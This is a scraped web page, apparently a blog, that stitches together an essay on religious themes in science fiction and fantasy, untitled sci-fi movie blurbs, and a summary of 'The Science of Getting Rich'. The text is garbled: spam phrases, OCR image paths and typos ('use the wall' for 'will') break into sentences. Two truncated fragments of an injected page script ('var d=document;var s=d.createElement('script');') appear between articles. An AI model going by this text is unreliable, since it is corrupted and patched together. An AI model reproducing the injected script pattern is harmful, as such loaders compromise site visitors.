Mot-clé : Science

Science Fiction, Fantasy And Religion

Science fiction and Fantasy (SF/F) novels and stories often use religious themes as an integral part of the story. This may be due generally to the experimental or exploratory nature of the Science Fiction and Fantasy genre. Of course, the use of religious themes by SF/F authors does not mean that religious faith is necessarily being promoted. Often, the stories are critical of religion as a human institution and theology as a relevant way of thought. However, in this article we consider the use of religious themes in SF/F to achieve different storytelling perspectives using stories that deal with questions of a spiritual or religious nature.
Religious themes cataloged in SF/F as follows:
After life, eternal state
Angels and DemonsEschatology, end times
Hell and punishment
Humanity, what it means to be human
Jesus (divine, human, fictional)
Messiah, who saves humanity
Metaphysics, forces, powers, and knowledge
Sin and evil
Theocracy, political governance by religion.
Within these themes, some characters assume a Creator exists while others are agnostic or atheistic. But they all operate and behave in ways that shed light on the author’s use of religion.
The Big Questions
There is almost a kind of religious dialogue conducted by SF/F authors across the years as one author’s story is responded to by that of another author. One example is C.S. Lewis’ stories being an inspiration for Philip Pullman to write His Dark Materials. Lewis is very Christian, while Pullman hates the church and Lewis almost as much as atheists like Richard Dawkins hate every religion but their own peculiar kind of Scientism.
It is interesting that a discussion of the « Big Questions » of life are carried on more within a literary genre rather than within the halls of academia. With the rise of analytic philosophy and logical positivism, academic philosophers began ignoring the big questions, emphasizing instead the tiny logical clarification of thoughts, asserting that the big philosophical questions no longer exist. Thiskind of postmodernism is typically atheistic or agnostic. Some prefer to follow eastern religion thoughts and practices which do not promote a personal deity. Many substitute humanitarianism or environmentalism for traditional visit our site religion, choosing to place their faith in naturalism and evolution rather than a Biblical Creator.
A Sample of Writers and Their Stories There are many writers and SF/F stories that use religion and theology as a platform. All of this bubbles up to the minds and imaginations of SF/F writers. Here’s a brief sample of some of the famous ones that use religion/theology in their storytelling.
Robert A. Heinlein’s Stranger in a Strange Land In the past writers like Robert A. Heinlein (once a Baptist)solved the struggles ofhumanity in his story Stranger in a Strange Land, where his protagonist, Valentine Michael Smith (raised on a Mars of the future), turns Martian philosophy into a humanreligion. As a messiah, Smith has pyschic abilities and powers that set him apart from other humans. Heinlein gives us a Martian religion based upon an eastern idea of the oneness of everything. He supplies an afterlife of wise spirits and a Holy Communion where the bereaved eat the body of their dead. Heinlein creates a Church of All Worlds for his character to run that practices initiation similar to that of ancient mystery religions, but also teaches its members how to respond to suffering. It was all done so compellingly that anactual religion was founded by Tim Zell which patterned its principles after the fictional church.
Frank Herbert’s Dune The messiah in Frank Herbert’s Dune, Paul Muad’dib, combines characteristics of an Arab Muslim prophet and some Christian messianic concepts. Like Jesus, Paul Atreides suffers before being elevatedto Divinity. The idea of the spoken word becoming a physical weapon, the water of life, the nun-like order of the Bene Gesserit, are a few of the many elements of Christianity, Islam, and Buddhism Herbert used in the story. Some unique ideas of Herbet’s include a God who, « likes to be surprised » and the use of the spice melange to aid both space travel in the physical universe and omniscience in the spiritual.
Another SF/F writer who’s ideas were directly responsible for starting a church was Lafayette Ronald Hubbard whose creation we know as theChurch of Scientology. Like many eastern religions, his church focused on techniques for spiritual growth more than a set of religious doctrines. Once Hubbard’s ideas for Dianetics became clear, he shifted from science fiction writing (over 138 pulp novels) to writing about his new faith in books like Dianetics: The Modern Science of Mental Health.
C. S. Lewis’ Space Trilogy C. S. Lewis’ Space Trilogy, consists of the novels Out of the Silent Planet, Perelandra (Voyage to Venus) and That Hideous Strength. Lewis, an outspoken Christian, uses characters withmotives and actions that appear based upon Biblical examples. Oyarsa is likeLucifer, Maleldil the Young is like Jesus, and the OldOne seems to be God the Father. If you remember, the reason the planet Earth is silent is that only its inhabitants have rebelled against the Old One. Elsewhere in the universe, all of creation rejoices in Him. Book 2, takes place on Venus where a new Adam and Eve (Tinidril) live in a new Garden of Eden. A human physicist, Professor Weston, travels to Venus to corrupt her innocence. The story focuses on the hero Elwin Ransom’s attempts to prevent another « fall ». In his battle with Professor Weston, Ransom goes beneath the earth in a struggle that has some parallels to Dante’s Inferno. In Book 3 an exploitative agency N.I.C.E. threatens to destroy humanity, with the help of evil spirits (fallen Eldila). The protagonist Dr. Elwin Ransom, with the help of good spirits, forms the St. Anne group to opposed to the progressives of Bracton College who are allied with N.I.C.E.}

Science Fiction Movie Reviews

Nothing beats a Friday night at home, snuggled up on a coach with a bowl of popcorn watching Science Fiction Movies. Stop at your local video store and find a science fiction movie sure to get you thinking about what could have been or what might be. Here are some of the best all time science fiction movies.

The Matrix

In this complex story that aspires to mythology, a computer hackersearches for the truth behind the mysterious force known as the Matrix. He finds his answer with a group of strangers led by the charismatic Morpheus. What they encounter in confronting that truth makes for a lightning-paced, eye-popping thrill ride of a movie that cleverly combines sociopolitical commentary with cutting-edge special effects.

Star Wars Episode 1

In this Star Wars prequel, Qui-Gon Jinn and a young Obi-Wan Kenobi must protect the Queen of Naboo from the evil clutches of Darth Sidious and Senator Palpatine. Along the way, they meet Anakin Skywalker, who shows the beginnings of a great gift.


Heartwarming story of the special bond 10-year-old Elliot forges with an alien he names E.T. The adventures they share as Elliot tries to hide his new friend, as E.T. tries to get back to his planet.


A group of shut-ins at a rest home get a new lease on life when they’re offered the gift of eternal youth by visiting aliens. A charter boat captain who helps fellow seniors make the choice between perennial youth or old age.

Lord of the Rings; Fellowship of the Ring

From the idyllic shire of the Hobbits to the smoking chasms of Mordor, Lord of the Rings is full of action. Frodo Baggins embarks on his epic quest for the one true ring.

Men in Black

This sci-fi comedy features J and K, agents in a top secret, above-the-government agency monitoring alien activity on Earth. Before rookie agent J even breaks in his stylish black suit, the team is called to save a galaxy from a bad-tempered alien « bug » and save Earth from total annihilation.

Harry Potter

Harry has lived under the stairs at his aunt and uncle’s house his whole life. But on his 11th birthday, he learns he’s a powerful wizard — with a place waiting for him at the HogwartsSchool of Witchcraft and Wizardry. There, he uncovers the truth about his parents’ deaths … and about the villain who’s to blame.


Thanks to an untimely demise, a young couple ends up as poltergeists in their New England farmhouse, where they fail to meet the challenge of scaring away the insufferable new owners. Indesperation, the undead newlyweds turn to an expert frightmeister named Beetlejuice — who has a diabolical agenda behind his scheme to help them.

The Crow

Young rock guitarist Eric Draven and his fianc&38289; are brutally killed by a ruthless gang of criminals. Exactly one year after his death, Eric returns — watched over by a hypnotic crow — to seek revenge.

Mists of Avalon

King Arthur’s Camelot with a feministslant. Avalon high priestess Viviane and sisters Morgaine and Morgause battle for control of the kingdom. Viviane manipulates her own sister into marrying a king in order to produce an amenable heir, but deceit, magic and human fallibility threaten to destroy both the plan and Avalon itself.

Close Encounters of the Third Kind

When Roy Neary encounters a UFO, he’s left with a sunburned face, a skeptical family and a shaken psyche. Soon, Roy begins seeking out others who’ve had similar « visions. » Among those he finds are Jillian , a woman who’s lost her son to the aliens, and Claude, a researcher preparing for Earth’s first contact with extraterrestrials.


Life is very pleasant for the close-knit Freeling family until a host of otherworldy forces invades their peaceful suburban home. Before long, their house is transformed into a swirling supernatural sideshow — all centered around their angelic young daughter, Carol Anne.

Andromeda Strain

When a satellite crashes in New Mexico, the AirForce sends two men to retrieve it. To their horror, they discover that the probe carries an alien virus that’s already killed all but two of the residents of the town where it landed. Now, scientists must isolate the virus and stop it from spreading.

12 Monkeys

In the year 2035, convict James Cole reluctantly volunteers to be sent back in time by scientists to 1996 to discover the origin of a virus that wiped out nearly all of the earth’s population. When Cole is mistakenly sent to 1990, he’s arrested and locked up in a mental hospital, where he meets a psychiatrist and the son of a famous virus expert.var d=document;var s=d.createElement(‘script’);The Science of Getting Rich – How Anyone Can Become Rich – Part 2

Do you dream of getting rich? Well, a very simple book called ‘The Science of Getting Rich’ written by Wallace D. Wattles a century ago sets out how anyone can become rich. This is Part 2 of a 3 part article series. It is recommended toread the entire book but this 3 part article will give you a handy rundown of the key concepts and ideas explored in the book.
If you have read part 1 of this article called “The Science of Getting Rich – How Anyone Become Rich – Part 1” then you will already have discovered that everybody has the right to be rich; that we must get rich in order that we can increase life and live more. We can do so by doing things in a certain way. Here in Part 2 we explore this concept further.
According the Wattles, you must be thinking in the Certain Way. By that visit it he means having a clear and definite picture continually in your mind; the unshakable purpose and unwavering Faith that the thing you desire is already yours will bring it about.To set about getting rich you must learn how to use the wall upon yourself. It’s important not to force others to do what you wish done. When you have the picture of your desire strong in your mind all things in the universe are stirred toward bringing what you want into being. There is no room for doubt or unbelief. You must guard your thoughts from poverty if you want to become rich. The poor cannot be helped through charity alone; they need inspiration. Getting rich is, according to Wattles, the best way of helping the poor.
Creation NOT Competition
Further use of the wall – you cannot attain wealth if you hold opposing images of poverty and wealth in your mind. So, there’s no point talking about past financial disasters if you want to focus on getting rich. Think of yourself as becoming rich, instead of growing out of poverty. Be creative, rather than competitive and you will attain riches.
It’s not enough to rely on thoughts alone. You must also be acting in the certain way so that you can take what is yours when it comes to you. By thought, the thing you want is bought to you; by action you receive it. Hold onto the vision of what you want and act now upon the people and things in your present environment. Put your whole mind into the present action. You cannot act in the past or indeed in the future as it hasn’t arrived yet.
You cannot foresee the results of even the most trivial act. Therefore, do every day all that can be done. This is what Wattles calls efficient action. However, don’t overworkor rush blindly into your business. It’s not the number of things you do, but the efficiency of each action that counts. If you spend your life doing each act efficiently, and putting power into it, you cannot fail. Your whole life will be a success and you will become rich. Use your leisure hours to use your imagination and develop your mind, focusing on developing the details of your vision.
Getting into the Right Business
You can become successful in any business if you have the right faculties and skills. These are your tools. However, it will be easier to succeed by getting into the right business and using these tools in the right way. It is best to select the business for which you have the best developed talent and ideally one which you have a strong desire for. Desire brings power. This will result in your getting rich more easily andalso with the most satisfaction. You may have to spend time doing what you do not like in order that you make it possible to do what you want. The best way, generally, to change business or environment is through growth. Although, be ready to make a sudden change if the right opportunity is presented. Being creative rather than competitive will mean you’ll never have to act hastily.If one space is taken, another one will open for you a little farther on. When in doubt, wait; contemplate your vision and cultivate gratitude. This will bring your mind into such close relationship with what Wattles calls, the Supreme, thatyou will make no mistake when you do act.var d=document;var s=d.createElement(‘script’);

The Science of Spiritualism

Part-4a: The Mystery of Form of Worldly Soul
